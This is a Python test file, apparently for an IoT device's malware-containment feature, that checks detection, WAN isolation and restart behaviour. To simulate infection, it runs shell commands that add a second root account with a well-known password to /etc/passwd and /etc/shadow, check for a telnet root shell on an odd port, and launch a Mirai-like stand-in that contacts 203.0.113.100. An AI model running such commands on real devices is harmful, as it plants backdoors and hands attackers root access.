"""The same devices, taken: what shows signs of malware is held, whatever the kind of device."""

import time

import table
from internet import Internet
from login import crypt
from place import wait_until
from walled import SECONDS

BOT = "a deleted program with a random name"
#: Kinds whose policy lets the device restart itself: on the others files are open.
RESTARTED = ("router", "camera", "appliance")


def held(device, sign, is_held, note=""):
    """One sign, and whether it was held."""
    table.add(device.personality.name, "infected", sign, table.HELD if is_held else f"FELL {note}")
    assert is_held, f"{device.personality.name}: {sign}: {note or 'it fell'}"


def bots(device):
    """Processes whose program is gone."""
    return [number for number, program in device.machine.programs() if program.endswith(" (deleted)")]


def infect(device):
    """Each sign after the other; the most harmless first."""
    device.vendor()
    Internet(device.net)
    device.run()
    device.set_up()
    wait_until(device.is_online, "the device works")
    an_account_with_a_password_that_all_know(device)
    telnet_at_an_odd_port(device)
    the_family_of_mirai(device)


def an_account_with_a_password_that_all_know(device):
    field = crypt("admin", "$5$shipped$")
    device.shell(f"echo 'support:x:0:0::/:/bin/sh' >> /etc/passwd; echo 'support:{field}:19000::::::' >> /etc/shadow")

    def is_locked():
        line = device.shell("grep ^support: /etc/shadow", must=False)
        return not line or line.split(":")[1][:1] in ("!", "*")

    try:
        wait_until(is_locked, "the account is locked", SECONDS)
    except AssertionError as why:
        held(device, "a second root with a password that all know", False, str(why))
    held(device, "a second root with a password that all know", True)


def telnet_at_an_odd_port(device):
    held(device, "telnet at port 50023", device.is_ended("/usr/sbin/telnetd", "-F", "-p", "50023", "-l", "/bin/sh"))


def the_family_of_mirai(device):
    began = time.monotonic()
    for _ in range(10):
        # The wall may be faster: then the mount takes no programs again.
        done = device.machine.run("sh", "-c", "mount -o remount,exec /tmp && standin infect /tmp /dev/watchdog 203.0.113.100")
        if "Permission denied" not in done.stderr:
            break
    assert done.returncode == 0, f"this test infects the device: {done.stderr}"
    try:
        wait_until(lambda: not bots(device), "the bot is ended", SECONDS)
    except AssertionError as why:
        held(device, BOT, False, str(why))
    wait_until(lambda: "infected measure=programs" in device.said(), "it is told", SECONDS)
    held(device, BOT, time.monotonic() - began < SECONDS)
    wait_until(lambda: "incident contained=true" in device.said(), "the device is contained", SECONDS)
    wait_until(lambda: not device.is_online(), "no way to the WAN", SECONDS)
    held(device, "an infected device is cut off", True)
    if device.personality.kind in RESTARTED:
        wait_until(device.restarts.exists, "it is restarted", SECONDS)
        held(device, "an infected device is restarted", True)
    else:
        device.take_turns(4)
        held(device, "one that must not restart by itself does not", not device.restarts.exists())
